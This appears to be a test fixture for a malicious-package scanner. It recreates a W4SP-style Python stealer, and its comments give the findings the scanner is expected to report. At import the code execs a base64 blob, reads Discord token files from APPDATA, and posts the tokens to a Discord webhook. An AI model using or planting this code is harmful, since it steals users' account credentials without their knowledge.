# An import-time stealer in the style of published W4SP-like reports: an
# encoded one-liner at import, Discord token theft, a webhook.
import os
import re

import requests

__import__("builtins").exec(__import__("builtins").compile(__import__("base64").b64decode("cHJpbnQoJ2hpJyk="), "<string>", "exec"))  # want "builtins.exec runs data decoded with base64.b64decode" "one-line unpacker"

WEBHOOK = "https://discord.com/api/webhooks/998877665544/ZyXwVuTsRqPoNmLkJiHg"
ROAMING = os.getenv("APPDATA", "")


def _tokens():
    found = []
    path = os.path.join(ROAMING, "discord", "Local Storage", "leveldb")
    for name in os.listdir(path):  # want "reads discord/local storage"
        with open(os.path.join(path, name), errors="ignore") as f:  # want "reads discord/local storage"
            found += re.findall(r"[\w-]{24}\.[\w-]{6}\.[\w-]{27}", f.read())
    return found


requests.post(WEBHOOK, json={"content": "\n".join(_tokens())})  # want "requests.post reaches the network at import time" "sends data to a Discord webhook"
